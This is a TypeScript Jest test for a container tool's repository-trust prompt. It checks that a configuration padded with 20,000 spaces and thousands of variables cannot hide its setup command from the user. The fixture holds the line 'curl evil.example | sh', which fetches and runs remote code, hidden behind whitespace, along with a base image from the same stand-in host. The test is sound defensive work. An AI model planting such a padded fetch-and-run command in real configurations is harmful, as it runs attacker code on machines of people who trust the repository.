// What a person reads before they agree to the configuration of a repository that somebody else wrote.
import { describe, expect } from '@jest/globals';
import { attack } from './attack.ts';
import { commandLine, onTerminal } from './command-line.ts';

const VARIABLES = Array.from({ length: 3000 }, (_, index) => `VARIABLE_${index} = "harmless"`);
const HIDDEN = 'curl evil.example | sh';
const CONFIG = `[container]
base-image = "evil.example/x:1"
setup-command = ["sh", "-c", "true${' '.repeat(20_000)}; ${HIDDEN}"]
[container.env]
${VARIABLES.join('\n')}
LAST = "${'harmless '.repeat(3500)}"
`;
/** Lines of a terminal of eighty columns. */
const rowsOf = (text: string) =>
  text.split('\n').reduce((sum, line) => sum + Math.max(1, Math.ceil(line.length / 80)), 0);
/** Without what the question itself moves and colours. */
const plain = (text: string) => text.replace(/\u001b\[[?0-9;]*[A-Za-z]/g, '');

describe('the question of trust', () => {
  attack('AX55: nothing that is asked for is pushed off the screen before the question of trust', async (fixture) => {
    fixture.scratch.file('.litterbox.toml', CONFIG);
    fixture.acceptRepository();
    const refused = commandLine(fixture, ['create', 'a']);
    const asked = plain(onTerminal(fixture, ['trust'], 'n'));
    for (const text of [refused.stderr, asked]) {
      expect(rowsOf(text)).toBeLessThan(50);
      expect(text).toContain('asks for container.base-image, container.setup-command, container.env (3001 entries)');
      expect(text).toContain('container.base-image = "evil.example/x:1"');
      expect(text).toContain(`"true␠×20000; ${HIDDEN}"`);
    }
    expect(asked).toMatch(/and to 2982 lines that are not shown here or not whole/);
    const { stdout } = commandLine(fixture, ['trust', '--show']);
    expect(stdout.split('\n').filter(Boolean)).toHaveLength(3003);
    expect(stdout).toContain(`true${' '.repeat(20_000)}; ${HIDDEN}`);
    expect(commandLine(fixture, ['trust', '--show']).stderr).toContain('You have not agreed to this.');
    // A yes is possible all the same: to a text that says what it leaves out.
    expect(plain(onTerminal(fixture, ['trust'], 'y'))).toContain('Agreed.');
  });
});
